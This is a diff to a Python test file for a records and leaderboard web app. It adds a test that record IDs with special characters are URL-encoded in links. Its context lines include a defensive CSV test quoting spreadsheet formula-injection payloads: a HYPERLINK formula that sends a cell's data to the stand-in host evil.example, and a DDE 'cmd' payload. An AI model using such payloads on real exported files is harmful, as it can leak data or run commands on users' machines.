@@ -7,6 +7,9 @@ import asyncio
 import csv
 import io
 import json
+import re
+from html import unescape
+from urllib.parse import quote
 
 import pytest
 from fastapi.testclient import TestClient
@@ -164,3 +167,23 @@ def test_the_records_csv_has_no_formula_cells(tmp_path, eval_data):
     assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
     assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" in cells and "'=cmd|'!A0 +SUM(1)" in cells
     assert "plain" in cells and "1.20000000" in cells  # numbers and plain text as they were
+
+
+def test_record_ids_are_url_encoded_in_every_link(tmp_path, eval_data):
+    track = tmp_path / "records" / "track_10min_16mb"
+    odd = ["2026-01-01_a#b", "2026-01-02_what?x=1", "2026-01-03_100%", "2026-01-04_new\nline", "2026-01-05_sp ace"]
+    for folder in odd:
+        (track / folder).mkdir(parents=True)
+        (track / folder / "README.md").write_text("# a record\n")
+        (track / folder / "train_seed1.log").write_text("step:1/10 val_loss:2.0 val_bpb:1.5\n")
+    client = _client(tmp_path, eval_data, records=[tmp_path / "records"])
+    pages = ["/records", "/leaderboard", *(f"/records/{quote(folder, safe='')}" for folder in odd)]
+    links = set()
+    for page in pages:
+        response = client.get(page, headers={"accept": "text/html"})
+        assert response.status_code == 200, page
+        links |= {unescape(href) for href in re.findall(r'href="(/(?:api/)?records/[^"]*)"', response.text)}
+    for folder in odd:
+        assert f"/records/{quote(folder, safe='')}" in links
+    for link in links:
+        assert client.get(link.split("#")[0], headers={"accept": "text/html"}).status_code == 200, link
